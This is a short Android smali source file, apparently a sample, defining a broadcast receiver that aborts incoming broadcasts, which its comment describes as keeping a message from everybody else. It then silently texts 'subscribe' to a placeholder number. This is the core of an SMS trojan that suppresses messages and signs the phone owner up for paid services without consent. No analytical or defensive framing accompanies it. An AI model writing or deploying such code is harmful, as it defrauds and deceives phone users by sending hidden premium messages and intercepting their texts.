.class public Lorg/hinomi/sample/Receiver;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# Keeps a message from everybody else, and sends one.
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 10
    invoke-virtual {p0}, Lorg/hinomi/sample/Receiver;->abortBroadcast()V
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+10005550100"
    const/4 v2, 0x0
    const-string v3, "subscribe"
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
